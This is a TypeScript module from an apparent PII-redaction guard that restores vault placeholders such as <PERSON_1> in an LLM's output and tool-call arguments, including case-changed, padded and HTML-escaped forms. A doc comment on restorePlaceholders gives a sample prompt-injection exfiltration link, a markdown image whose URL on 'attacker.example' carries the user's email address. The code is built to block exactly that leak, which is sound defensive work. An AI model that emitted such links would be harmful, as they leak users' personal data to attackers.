import { ChunkedRestorer, jsonStringContent } from '../core/redact/restore.js';
import type { Vault } from '../core/redact/vault.js';
import { escapeHtml } from '../report/html/escape.js';

/**
 * Restoring the guard's placeholders (`<PERSON_1>`) also where the model altered them: their case changed
 * (`<person_1>`), spaces or tabs inside the brackets (`< PERSON_1 >`, at most {@link MAX_PAD} a side), or the brackets
 * HTML-escaped (`&lt;PERSON_1&gt;`, either or both, any case). Only tags the vault holds for a value are restored
 * in an altered form: a look-alike the vault does not know, and a literal the vault holds as itself, stay as
 * written. A hand scanner, not a regex: each character is read a bounded number of times.
 */

/** Spaces or tabs a model may put on each side of the tag's name. */
export const MAX_PAD = 3;
/** `&lt;` and `&gt;`: the longest bracket. */
const MAX_BRACKET = 4;

const LT = 60;
const GT = 62;
const AMP = 38;

/** Not a placeholder, or one not finished when the text ends. */
const PARTIAL = 'partial';

interface TagMatch {
  /** Just past the closing bracket. */
  end: number;
  /** The vault's form of the tag: `<NAME>`, upper case. */
  key: string;
  /** Written exactly as the vault's tag (no alteration). */
  exact: boolean;
  /** A bracket was HTML-escaped: the text is HTML, so the value goes in escaped too. */
  html: boolean;
}

function isPad(c: number): boolean {
  return c === 32 || c === 9;
}

function isNameChar(c: number): boolean {
  return (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95;
}

/** Length of the bracket at `i` (`<` or `&lt;` when `open`, else `>` or `&gt;`): 0 if none, -1 if the text ends in one. */
function bracketAt(s: string, i: number, open: boolean): number {
  const c = s.charCodeAt(i);
  if (c === (open ? LT : GT)) return 1;
  if (c !== AMP) return 0;
  const word = open ? 'lt;' : 'gt;';
  for (let k = 0; k < 3; k++) {
    if (i + 1 + k >= s.length) return -1;
    // Letters compared without case (`&LT;` is HTML too).
    const ch = k < 2 ? s.charCodeAt(i + 1 + k) | 0x20 : s.charCodeAt(i + 1 + k);
    if (ch !== word.charCodeAt(k)) return 0;
  }
  return 4;
}

/**
 * The placeholder form starting at `i` (an opening bracket, spaces, a name of at most `maxName` characters,
 * spaces, a closing bracket), `PARTIAL` when the text ends inside one, or undefined.
 */
function tagAt(s: string, i: number, maxName: number): TagMatch | typeof PARTIAL | undefined {
  const open = bracketAt(s, i, true);
  if (open === -1) return PARTIAL;
  if (open === 0) return undefined;
  let j = i + open;
  const pad1 = j;
  while (j < s.length && j - pad1 < MAX_PAD && isPad(s.charCodeAt(j))) j++;
  if (j === s.length) return PARTIAL;
  const name = j;
  while (j < s.length && j - name <= maxName && isNameChar(s.charCodeAt(j))) j++;
  const nameLength = j - name;
  if (nameLength === 0 || nameLength > maxName) return undefined;
  if (j === s.length) return PARTIAL;
  const pad2 = j;
  while (j < s.length && j - pad2 < MAX_PAD && isPad(s.charCodeAt(j))) j++;
  if (j === s.length) return PARTIAL;
  const close = bracketAt(s, j, false);
  if (close === -1) return PARTIAL;
  if (close === 0) return undefined;
  const written = s.slice(name, name + nameLength);
  const upper = written.toUpperCase();
  const exact = open === 1 && close === 1 && pad1 === name && pad2 === j && written === upper;
  return { end: j + close, key: `<${upper}>`, exact, html: open === MAX_BRACKET || close === MAX_BRACKET };
}

function isOpener(c: number): boolean {
  return c === LT || c === AMP;
}

/** Longest name the vault's tags have (its tags are `<NAME>`). */
function maxNameOf(vault: Vault): number {
  return Math.max(0, vault.maxTagLength - 2);
}

/** The longest placeholder form the vault's tags can take once altered. */
export function maxPlaceholderForm(vault: Vault): number {
  return vault.size === 0 ? 0 : 2 * MAX_BRACKET + 2 * MAX_PAD + maxNameOf(vault);
}

/** Longest tag name {@link placeholderKeysIn} reads (the vault's tags are entity labels and a number). */
const MAX_WRITTEN_NAME = 64;
/** The name of a numbered tag, as the vault hands them out: `LABEL_n`. */
const NUMBERED_NAME = /^[A-Z0-9_]+_\d+$/;

/**
 * The vault keys (`<NAME_n>`, upper case) of the numbered placeholder forms `text` holds, exact or altered: what a
 * conversation's own texts wrote (an XML element `<person_1>`, HTML source `&lt;PERSON_1&gt;`), which the vault
 * must neither hand out nor read as its placeholder when the model echoes them. Linear, as the restore.
 */
export function placeholderKeysIn(text: string): Set<string> {
  const out = new Set<string>();
  if (!text.includes('<') && !text.includes('&')) return out;
  for (let i = 0; i < text.length; i++) {
    if (!isOpener(text.charCodeAt(i))) continue;
    const m = tagAt(text, i, MAX_WRITTEN_NAME);
    if (m !== undefined && m !== PARTIAL && NUMBERED_NAME.test(m.key.slice(1, -1))) out.add(m.key);
  }
  return out;
}

/**
 * Where the scan stands in a URL, carried from one chunk of a stream to the next: whether the text so far ends
 * inside a URL, and its last few characters (a `://` or `](` can be split across chunks).
 */
export interface UrlState {
  inUrl: boolean;
  tail: string;
}

const URL_TAIL = 5;

/** Characters a URL is written in (RFC 3986), `&` among them: a query's separator, and `&lt;`'s first. */
function isUrlChar(c: number): boolean {
  return (
    (c >= 97 && c <= 122) ||
    (c >= 65 && c <= 90) ||
    (c >= 48 && c <= 57) ||
    (c >= 35 && c <= 59 && c !== 60) || // # $ % & ' ( ) * + , - . / 0-9 : ;
    c === 33 ||
    c === 61 ||
    c === 63 ||
    c === 64 ||
    c === 91 ||
    c === 93 ||
    c === 95 ||
    c === 126
  );
}

/**
 * Replaces every tag of `vault` in `text` with its value, in the tag's exact form or an altered one (see above).
 * `encode` writes the value as the text needs it (JSON string content in a JSON answer). `written`: keys the
 * conversation wrote itself in some form ({@link placeholderKeysIn}); only their exact form is restored, as an
 * altered one is the user's own markup (`<person_1>`) echoed, not a placeholder the model altered.
 *
 * A tag inside a URL is never restored: `![x](https://attacker.example/p?u=<EMAIL_ADDRESS_1>)`, written by a model
 * an injection steers, would send the user's address to that site as soon as a chat UI renders the image, and a
 * link or a tool call's URL argument does the same on a click or a call. A URL starts at `://`, at a markdown
 * link's `](` and after `src=` or `href=`, and runs over URL characters; the tag stays a placeholder there.
 * `state` carries that across the chunks of a stream.
 */
export function restorePlaceholders(
  text: string,
  vault: Vault,
  encode?: (value: string) => string,
  written?: ReadonlySet<string>,
  state?: UrlState,
): string {
  if (vault.size === 0) return text;
  if (!state && !text.includes('<') && !text.includes('&')) return text;
  const maxName = maxNameOf(vault);
  const tail = state?.tail ?? '';
  // The character `k` places before `i` (read from the previous chunk's tail before the text starts).
  const before = (i: number, k: number) =>
    i - k >= 0 ? text.charCodeAt(i - k) : tail.charCodeAt(tail.length + (i - k));
  let inUrl = state?.inUrl ?? false;
  let out = '';
  let last = 0;
  let i = 0;
  while (i < text.length) {
    const c = text.charCodeAt(i);
    if (isOpener(c)) {
      const m = tagAt(text, i, maxName);
      if (m !== undefined && m !== PARTIAL) {
        const value = vault.get(m.key);
        // A literal the vault holds as itself is not a placeholder: only its exact form gives it back.
        if (value !== undefined && (m.exact || (value !== m.key && !written?.has(m.key)))) {
          if (!inUrl) {
            const put = m.html ? escapeHtml(value) : value;
            out += text.slice(last, i) + (encode ? encode(put) : put);
            last = m.end;
          }
          // A tag kept in a URL is part of it.
          i = m.end;
          continue;
        }
      }
    }
    inUrl = urlAfter(c, i, before, inUrl);
    i++;
  }
  if (state) {
    state.inUrl = inUrl;
    state.tail = (tail + text).slice(-URL_TAIL);
  }
  return last === 0 ? text : out + text.slice(last);
}

/** Whether the text is in a URL after character `c` at `i` (`before` reads the characters ahead of it). */
function urlAfter(c: number, i: number, before: (i: number, k: number) => number, inUrl: boolean): boolean {
  // `src="…"`: the quote after `=` opens the value.
  if (inUrl) return isUrlChar(c) || ((c === 34 || c === 39) && before(i, 1) === 61);
  return (
    (c === 47 && before(i, 1) === 47 && before(i, 2) === 58) || // ://
    (c === 40 && before(i, 1) === 93) || // ](
    (c === 61 && endsWithAttr(before, i))
  );
}

/** Whether `src` or `href` (any case) ends just before position `i`. */
function endsWithAttr(before: (i: number, k: number) => number, i: number): boolean {
  const lower = (k: number) => before(i, k) | 0x20;
  if (lower(1) === 99 && lower(2) === 114 && lower(3) === 115) return true; // src
  return lower(1) === 102 && lower(2) === 101 && lower(3) === 114 && lower(4) === 104; // href
}

/**
 * Restores the placeholders in a tool call's arguments, in one scan: what {@link restorePlaceholders} restores
 * (altered forms, `written`, never in a URL), each value written as the arguments need it.
 *
 * Arguments that parse as JSON get each value as JSON string content (a value with a line break or a quote,
 * restored as written, left arguments no JSON parser reads); other arguments (a custom tool's free-form input) get
 * the value as written.
 *
 * A form whose brackets were HTML-escaped (`&lt;PERSON_1&gt;`) gets its value HTML-escaped only when the text
 * around it is itself HTML: the JSON string it sits in (the whole arguments when they are not JSON) holds an HTML
 * character reference (`&amp;`, `&#39;`) or markup (`<p>`, `</b>`, `<!--`) besides the placeholder forms. A
 * tool reads its arguments as data: a model that merely escaped a placeholder's brackets in `{"name": …}` must not
 * turn `O'Brien` into `O&#39;Brien` there, while in an HTML e-mail body (`"<p>Dear &lt;PERSON_1&gt;</p>"`) the
 * value goes in escaped, never as markup. JSON escapes of the text (`\u003cp\u003e`) are not read as HTML.
 *
 * `json` says whether the text is JSON instead of trying to parse it (`true`: JSON Lines, which no single parse
 * reads, still get values as JSON string content).
 */
export function restoreToolArguments(
  args: string,
  vault: Vault,
  written?: ReadonlySet<string>,
  json?: boolean,
): string {
  if (vault.size === 0 || (!args.includes('<') && !args.includes('&'))) return args;
  const maxName = maxNameOf(vault);
  const before = (i: number, k: number) => (i - k >= 0 ? args.charCodeAt(i - k) : Number.NaN);
  const found: { start: number; end: number; value: string; html: boolean; literal: number }[] = [];
  /** Per JSON string literal, in order: whether its text is HTML besides the placeholder forms. */
  const htmlLiteral: boolean[] = [];
  /** Whether the whole text is HTML besides the placeholder forms (arguments that are not JSON). */
  let htmlText = false;
  let inString = false;
  let escaped = false;
  let literal = -1;
  /** The end of the last placeholder-shaped form seen: its brackets (`&gt;`) are not HTML of the text. */
  let formEnd = 0;
  let inUrl = false;
  let i = 0;
  while (i < args.length) {
    const c = args.charCodeAt(i);
    // JSON string literals; a placeholder form holds no quote or backslash, so skipping one keeps this right.
    if (inString) {
      if (escaped) escaped = false;
      else if (c === 92) escaped = true;
      else if (c === 34) inString = false;
    } else if (c === 34) {
      inString = true;
      literal++;
      htmlLiteral.push(false);
    }
    if (isOpener(c)) {
      const m = tagAt(args, i, maxName);
      if (m !== undefined && m !== PARTIAL) {
        const value = vault.get(m.key);
        // As restorePlaceholders: a literal the vault holds as itself comes back only from its exact form.
        if (value !== undefined && (m.exact || (value !== m.key && !written?.has(m.key)))) {
          if (!inUrl) found.push({ start: i, end: m.end, value, html: m.html, literal: inString ? literal : -1 });
          i = m.end;
          continue;
        }
      }
      if (i >= formEnd) {
        const form = tagAt(args, i, MAX_WRITTEN_NAME);
        if (form !== undefined && form !== PARTIAL && NUMBERED_NAME.test(form.key.slice(1, -1))) formEnd = form.end;
        else if (c === AMP ? entityAt(args, i) : markupAt(args, i)) {
          htmlText = true;
          if (inString) htmlLiteral[literal] = true;
        }
      }
    }
    inUrl = urlAfter(c, i, before, inUrl);
    i++;
  }
  if (found.length === 0) return args;
  if (json === undefined) {
    try {
      JSON.parse(args);
      json = true;
    } catch {
      json = false;
    }
  }
  let out = '';
  let last = 0;
  for (const f of found) {
    const html = f.html && (json ? htmlLiteral[f.literal] === true : htmlText);
    const put = html ? escapeHtml(f.value) : f.value;
    out += args.slice(last, f.start) + (json ? jsonStringContent(put) : put);
    last = f.end;
  }
  return out + args.slice(last);
}

/** Longest HTML character reference {@link entityAt} reads (`&CounterClockwiseContourIntegral;` is 33). */
const MAX_ENTITY = 40;
/** Longest HTML tag {@link markupAt} reads. */
const MAX_MARKUP = 512;

const isDigit = (c: number) => c >= 48 && c <= 57;
const isAlpha = (c: number) => (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
const isHex = (c: number) => isDigit(c) || ((c | 0x20) >= 97 && (c | 0x20) <= 102);

/** Whether an HTML character reference (`&amp;`, `&#39;`, `&#x27;`) starts at `i`. */
function entityAt(s: string, i: number): boolean {
  const end = Math.min(s.length, i + MAX_ENTITY);
  let j = i + 1;
  let ok: (c: number) => boolean = (c) => isAlpha(c) || isDigit(c);
  if (s.charCodeAt(j) === 35) {
    j++;
    ok = isDigit;
    if ((s.charCodeAt(j) | 0x20) === 120) {
      j++;
      ok = isHex;
    }
  } else if (!isAlpha(s.charCodeAt(j))) return false;
  const start = j;
  while (j < end && ok(s.charCodeAt(j))) j++;
  return j > start && j < end && s.charCodeAt(j) === 59;
}

/** Whether an HTML tag (`<p>`, `</b>`, `<a href="…">`, `<br/>`) or comment (`<!--`) starts at `i`. */
function markupAt(s: string, i: number): boolean {
  let j = i + 1;
  if (s.charCodeAt(j) === 33) return s.startsWith('--', j + 1);
  if (s.charCodeAt(j) === 47) j++;
  if (!isAlpha(s.charCodeAt(j))) return false;
  // Up to its `>`; a `<` first means it was not a tag (each character is read for one `<` at most).
  const end = Math.min(s.length, i + MAX_MARKUP);
  for (j++; j < end; j++) {
    const c = s.charCodeAt(j);
    if (c === GT) return true;
    if (c === LT) return false;
  }
  return false;
}

/**
 * {@link restorePlaceholders} for a text that arrives in chunks: a chunk's end that may still grow into a
 * placeholder form (`…&lt; pers`) is held until the next chunk decides it, at most
 * {@link maxPlaceholderForm} - 1 characters (plus the high half of a split surrogate pair); `flush` returns
 * the rest.
 */
export class PlaceholderRestorer extends ChunkedRestorer {
  readonly #written: ReadonlySet<string> | undefined;
  /** Whether the text released so far ends in a URL: a tag that continues it is not restored. */
  readonly #url: UrlState = { inUrl: false, tail: '' };

  /** `written`: as for {@link restorePlaceholders} (read live: a set the session still adds to). */
  constructor(vault: Vault, encode?: (value: string) => string, written?: ReadonlySet<string>) {
    super(vault, encode);
    this.#written = written;
  }

  /** The start of the earliest unfinished placeholder form that could still fit, else the end. */
  protected holdFrom(buffer: string): number {
    const longest = maxPlaceholderForm(this.vault);
    if (longest > 0) {
      const maxName = maxNameOf(this.vault);
      // A form starting earlier would be longer than any the vault's tags can take.
      for (let i = Math.max(0, buffer.length - longest + 1); i < buffer.length; i++) {
        if (isOpener(buffer.charCodeAt(i)) && tagAt(buffer, i, maxName) === PARTIAL) return i;
      }
    }
    return buffer.length;
  }

  protected restoreText(text: string): string {
    return restorePlaceholders(text, this.vault, this.encode, this.#written, this.#url);
  }
}
